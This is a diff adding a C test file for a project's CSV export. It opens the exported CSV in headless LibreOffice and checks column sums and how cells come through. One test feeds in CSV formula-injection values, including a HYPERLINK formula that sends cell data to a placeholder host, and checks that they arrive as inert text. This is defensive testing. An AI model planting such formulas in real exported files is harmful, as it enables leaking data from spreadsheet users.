@@ -1,0 +1,216 @@
+/* The CSV in a real spreadsheet, LibreOffice, as it opens there by a double click: with the separators that
+ * its import begins with, under a French and an English locale. */
+#include "config.h"
+
+#include <gio/gio.h>
+#include <glib/gstdio.h>
+#include <libxml/parser.h>
+#include <libxml/tree.h>
+
+#include <jalon/export/export.h>
+
+#include "../chart/support.h"
+
+/* Comma, semicolon and tab; UTF-8; from the first line on. */
+#define IMPORT "--infilter=Text - txt - csv (StarCalc):44/59/9,34,76,1"
+
+static const struct {
+  const char *lang, *locale;
+} languages[] = { { "en", "en_US.UTF-8" }, { "fr", "fr_FR.UTF-8" } };
+
+static void
+remove_all (const char *path)
+{
+  g_autoptr (GDir) dir = g_dir_open (path, 0, NULL);
+
+  for (const char *name; dir && (name = g_dir_read_name (dir)) != NULL;) {
+    g_autofree char *child = g_build_filename (path, name, NULL);
+
+    if (g_file_test (child, G_FILE_TEST_IS_DIR) && !g_file_test (child, G_FILE_TEST_IS_SYMLINK))
+      remove_all (child);
+    else
+      g_unlink (child);
+  }
+  g_rmdir (path);
+}
+
+static void
+run_office (const char *office, const char *folder, const char *locale, const char *csv)
+{
+  g_autoptr (GSubprocessLauncher) launcher =
+    g_subprocess_launcher_new (G_SUBPROCESS_FLAGS_STDOUT_SILENCE | G_SUBPROCESS_FLAGS_STDERR_SILENCE);
+  g_autofree char *profile = g_strdup_printf ("-env:UserInstallation=file://%s/profile", folder);
+  g_autoptr (GSubprocess) process = NULL;
+  g_autoptr (GError) error = NULL;
+
+  g_subprocess_launcher_setenv (launcher, "LC_ALL", locale, TRUE);
+  g_subprocess_launcher_setenv (launcher, "LANG", locale, TRUE);
+  g_subprocess_launcher_setenv (launcher, "HOME", folder, TRUE);
+  process = g_subprocess_launcher_spawn (launcher, &error, office, profile, "--headless", IMPORT,
+                                         "--convert-to", "fods", "--outdir", folder, csv, NULL);
+  g_assert_no_error (error);
+  g_subprocess_wait_check (process, NULL, &error);
+  g_assert_no_error (error);
+}
+
+/* What LibreOffice makes of a chart's CSV. (nullable): where there is no LibreOffice */
+static xmlDoc *
+open_csv (Case *c, const char *chart, const char *lang, const char *locale)
+{
+  g_autofree char *office = g_find_program_in_path ("soffice"), *folder = NULL, *csv = NULL, *fods = NULL;
+  g_autoptr (JalonLocale) written = jalon_locale_new (lang);
+  g_autoptr (GFile) file = NULL;
+  g_autoptr (GBytes) bytes = NULL;
+  g_autoptr (GError) error = NULL;
+  xmlDoc *doc;
+
+  if (!office) {
+    g_test_skip ("LibreOffice is not installed");
+    return NULL;
+  }
+
+  folder = g_dir_make_tmp ("jalon-csv-XXXXXX", &error);
+  g_assert_no_error (error);
+  csv = g_build_filename (folder, "chart.csv", NULL);
+  fods = g_build_filename (folder, "chart.fods", NULL);
+  file = g_file_new_for_path (csv);
+  case_build (c, chart);
+  bytes = jalon_export_scene (c->scene, JALON_FORMAT_CSV, &(JalonExportLook){ 1, written, FALSE }, &error);
+  g_assert_no_error (error);
+  g_assert_true (jalon_export_save (file, bytes, NULL, &error));
+  run_office (office, folder, locale, csv);
+  doc = xmlReadFile (fods, NULL, XML_PARSE_NONET | XML_PARSE_HUGE);
+  remove_all (folder);
+  g_assert_nonnull (doc);
+  return doc;
+}
+
+static void
+find_rows (xmlNode *node, GPtrArray *rows)
+{
+  for (xmlNode *child = node->children; child; child = child->next) {
+    if (child->type != XML_ELEMENT_NODE)
+      continue;
+    if (strcmp ((const char *) child->name, "table-row") == 0)
+      g_ptr_array_add (rows, child);
+    else
+      find_rows (child, rows);
+  }
+}
+
+/* The n-th cell of a row, which may stand for several; NULL behind the last. */
+static xmlNode *
+cell_at (xmlNode *row, guint n)
+{
+  for (xmlNode *cell = xmlFirstElementChild (row); cell; cell = xmlNextElementSibling (cell)) {
+    xmlChar *repeated = xmlGetProp (cell, BAD_CAST "number-columns-repeated");
+    guint covers = repeated ? (guint) g_ascii_strtoull ((const char *) repeated, NULL, 10) : 1;
+
+    xmlFree (repeated);
+    if (n < covers)
+      return cell;
+    n -= covers;
+  }
+  return NULL;
+}
+
+/* The sum of a column's numbers. */
+static double
+sum_of (xmlDoc *doc, guint column)
+{
+  g_autoptr (GPtrArray) rows = g_ptr_array_new ();
+  double sum = 0;
+
+  find_rows (xmlDocGetRootElement (doc), rows);
+  for (guint i = 0; i < rows->len; i++) {
+    xmlNode *cell = cell_at (rows->pdata[i], column);
+    xmlChar *value = cell ? xmlGetProp (cell, BAD_CAST "value") : NULL;
+
+    if (value)
+      sum += g_ascii_strtod ((const char *) value, NULL);
+    xmlFree (value);
+  }
+  return sum;
+}
+
+static Case
+case_of_file (const char *name)
+{
+  Case self = { .locale = jalon_locale_new ("en") };
+  g_autofree char *path = NULL;
+  g_autoptr (GFile) file = NULL;
+  g_autoptr (JalonProblems) problems = jalon_problems_new ();
+  g_autoptr (GError) error = NULL;
+
+  path = g_test_build_filename (G_TEST_DIST, "..", "resources", "dossiers", name, NULL);
+  file = g_file_new_for_path (path);
+  self.dossier = jalon_xml_read (file, problems, NULL, NULL, NULL, &error);
+  g_assert_no_error (error);
+  self.options = (JalonChartOptions){ .width = 1280, .height = 720, .locale = self.locale };
+  self.plan = jalon_plan_new (self.dossier, JALON_REF_NONE, NULL);
+  return self;
+}
+
+/* 250 + 300 + 38 G$, spread over years to the cent. */
+static void
+test_sum (void)
+{
+  for (guint i = 0; i < G_N_ELEMENTS (languages); i++) {
+    g_auto (Case) c = case_of_file ("openai-multicloud.xml");
+    xmlDoc *years = open_csv (&c, "commitments.by-year", languages[i].lang, languages[i].locale), *providers;
+
+    if (!years)
+      return;
+    providers = open_csv (&c, "commitments.by-provider", languages[i].lang, languages[i].locale);
+    g_assert_cmpfloat_with_epsilon (sum_of (years, 2), 588e9, 0.001);
+    g_assert_cmpfloat_with_epsilon (sum_of (providers, 1), 588e9, 0.001);
+    g_assert_cmpfloat_with_epsilon (sum_of (providers, 4), 1, 1e-9); /* shares */
+    xmlFreeDoc (years);
+    xmlFreeDoc (providers);
+  }
+}
+
+/* Names that a spreadsheet would run are cells of text, and in one piece. */
+static void
+test_formulas (void)
+{
+  for (guint i = 0; i < G_N_ELEMENTS (languages); i++) {
+    g_auto (Case) c = case_of (
+      "commitments.by-provider",
+      "<party id='b'/><party id='p1'><name>=HYPERLINK(\"http://x.example/?\"&amp;A1,\"P1\")</name></party>"
+      "<party id='p2'><name>+P2; \"quoted\", line</name></party><party id='p3'><name>@SUM(1)</name></party>"
+      "<commitment id='c1' buyer='b' provider='p1' amount='4'/>"
+      "<commitment id='c2' buyer='b' provider='p2' amount='3'/>"
+      "<commitment id='c3' buyer='b' provider='p3' amount='2'/>");
+    static const char *const names[] = { "=HYPERLINK(\"http://x.example/?\"&A1,\"P1\")",
+                                         "+P2; \"quoted\", line", "@SUM(1)" };
+    g_autoptr (GPtrArray) rows = g_ptr_array_new ();
+    xmlDoc *doc = open_csv (&c, "commitments.by-provider", languages[i].lang, languages[i].locale);
+
+    if (!doc)
+      return;
+    find_rows (xmlDocGetRootElement (doc), rows);
+    g_assert_cmpuint (rows->len, >, G_N_ELEMENTS (names));
+    for (guint k = 0; k < G_N_ELEMENTS (names); k++) {
+      xmlNode *cell = cell_at (rows->pdata[k + 1], 0);
+      xmlChar *text = xmlNodeGetContent (cell);
+      g_autofree char *stripped = g_strstrip (g_strdup ((const char *) text));
+
+      g_assert_false (xmlHasProp (cell, BAD_CAST "formula"));
+      g_assert_cmpstr (jalon_csv_unmark (stripped), ==, names[k]);
+      xmlFree (text);
+    }
+    g_assert_cmpfloat_with_epsilon (sum_of (doc, 1), 9, 1e-9);
+    xmlFreeDoc (doc);
+  }
+}
+
+int
+main (int argc, char **argv)
+{
+  g_test_init (&argc, &argv, NULL);
+  jalon_use_language ("en");
+  g_test_add_func ("/spreadsheet/sum", test_sum);
+  g_test_add_func ("/spreadsheet/formulas", test_formulas);
+  return g_test_run ();
+}
